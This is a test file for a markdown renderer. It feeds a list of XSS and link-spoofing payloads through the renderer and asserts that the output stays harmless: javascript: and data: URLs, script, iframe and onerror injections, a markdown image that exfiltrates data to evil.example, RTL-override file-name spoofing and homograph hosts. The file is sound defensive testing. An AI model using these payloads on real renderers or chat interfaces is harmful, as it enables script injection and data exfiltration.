import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown, MarkdownDocument } from '../../../src/renderer/markdown/view/markdown.tsx';
import { emptySplit, feed } from '../../../src/renderer/markdown/split/splitter.ts';
import { imageSource, safeLink } from '../../../src/renderer/markdown/parse/url.ts';

const targets = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#x73;cript:alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  'file:///etc/passwd',
  '\\\\\\\\host\\share',
  '//evil.example/x',
  'http:evil.example',
  'app://parley/..%2f',
  'smb://host/share',
  'ms-word:ofe|u|https://x',
  'blob:https://evil.example/1',
  '/relative',
  '#fragment',
  'https:/\\evil.example',
];

/** Everywhere an address may occur. One target is enough, because only the place differs. */
const places = (url: string): readonly string[] => [
  url,
  `[r]\n\n[r]: <${url}> "title"\n`,
  `![r][]\n\n[r]: ${url}\n`,
  `- > # [x](${url} "title")\n`,
  `x[^1]\n\n[^1]: [y](${url})\n`,
];

const attacks = [
  ...['javascript:alert(1)', '//evil.example/x'].flatMap((url) => places(url)),
  ...targets.flatMap((url) => [
    `[x](${url})`,
    `[x](<${url}>)`,
    `![x](${url})`,
    `<${url}>`,
    `[x][r]\n\n[r]: ${url}\n`,
    `[![y](${url})](${url})`,
    `| a |\n| - |\n| [x](${url}) |\n`,
  ]),
  'www.evil.example/<script>alert(1)</script>',
  'javascript&colon;alert(1) <javascript&colon;alert(1)>',
  '[x](java\nscript:alert(1)) [x](\u0001javascript:alert(1)) [x]( javascript:alert(1))',
  '[x](java\\script:alert(1)) [x](javascript\\:alert(1)) [x](%6aavascript:alert(1))',
  '[https://bank.example](https://evil.example) <https://bank.example@evil.example>',
  '[gpj.\u202Eexe](https://evil.example/\u202Egnp.exe) \u2066[x](https://a.b)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>) ![x](data:text/html;base64,AA)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'a <img src="https://evil.example/x.png"> b',
  '<iframe src="https://evil.example"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<svg><script>alert(1)</script></svg>',
  '<style>@import "https://evil.example"</style>',
  '<a href="javascript:alert(1)">x</a>',
  '![exfiltrate](https://evil.example/log?q=secret)',
  '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A-->B; click A "javascript:alert(1)"\n```\n',
  '[__proto__]: https://a.b\n\n[x][__proto__] [constructor] [toString][]\n',
  '$\\href{javascript:alert(1)}{x}$ \\(\\includegraphics{https://evil.example/i.png}\\)',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))\n',
];

function expectHarmless(markup: string): void {
  for (const [, url = ''] of markup.matchAll(/\shref="([^"]*)"/g))
    expect(url).toMatch(/^(?:https?:\/\/|mailto:|#)/);
  for (const [, url = ''] of markup.matchAll(/\ssrc="([^"]*)"/g))
    expect(url).toMatch(/^(?:data:image\/|blob:)/);
  expect(markup).not.toMatch(/<(?:script|iframe|meta|style|link|object|embed|form|base|svg)\b/i);
  expect(markup).not.toMatch(
    /<[^>]*\s(?:on[a-z]+|srcset|formaction|action|background|poster|ping)=/i,
  );
}

describe('hostile text', () => {
  test.each(attacks)('%s', (attack) => {
    let split = emptySplit();
    for (const letter of attack) {
      split = feed(split, letter);
      expectHarmless(renderToStaticMarkup(<MarkdownDocument split={split} text={null} />));
    }
    expectHarmless(renderToStaticMarkup(<Markdown text={attack} />));
  });

  const huge: readonly (readonly [string, string])[] = [
    ['a quote 10,000 deep', `${'>'.repeat(10_000)} deep`],
    ['a spaced quote 9,000 deep', `${'> '.repeat(9000)} deep`],
    ['a list 9,000 deep', `${'- '.repeat(9000)} deep`],
    [
      'lists ever more indented',
      Array.from({ length: 500 }, (_, index) => `${'  '.repeat(index)}- x`).join('\n'),
    ],
    ['a line of 100 KB', 'x'.repeat(100_000)],
    ['100 KB of words on a line', 'word '.repeat(20_000)],
    [
      'a table of 500 columns',
      `${'| a '.repeat(500)}|\n${'| - '.repeat(500)}|\n${'| b '.repeat(500)}|`,
    ],
    ['ten thousand stars', `a ${'*'.repeat(10_000)}`],
    ['ten thousand openers', '**a '.repeat(5000)],
    ['ten thousand brackets', '['.repeat(10_000)],
    ['ten thousand images', '!['.repeat(5000)],
    ['ten thousand backticks', '`a``b'.repeat(2000)],
    ['ten thousand tags', '<a'.repeat(5000)],
  ];
  test.each(huge)(
    '%s ends, with its text on show',
    (_, text) => {
      const markup = renderToStaticMarkup(<Markdown text={text} />);
      expectHarmless(markup);
      expect(markup.replaceAll(/<[^>]*>/g, '').trim()).not.toBe('');
      const frame = <MarkdownDocument split={feed(emptySplit(), text)} text={null} />;
      expectHarmless(renderToStaticMarkup(frame));
    },
    60_000,
  );
});

describe('addresses', () => {
  test.each(targets)('%s is no link', (url) =>
    expect(safeLink(url.replaceAll('&#', 'x'))).toBeNull(),
  );
  test('a look-alike host shows its real name', () => {
    expect(safeLink('https://аpple.com/')).toBe('https://xn--pple-43d.com/');
  });
  test('images from elsewhere wait', () => {
    expect(imageSource('https://a.b/c.png')).toEqual({
      kind: 'remote',
      url: 'https://a.b/c.png',
      host: 'a.b',
    });
    expect(imageSource('data:text/html,x').kind).toBe('refused');
    // The bytes determine the type.
    expect(imageSource('data:image/png;base64,AA').kind).toBe('data');
    expect(imageSource(`attachment:${'a'.repeat(64)}`).kind).toBe('attachment');
    expect(imageSource('attachment:../../x').kind).toBe('refused');
  });
});
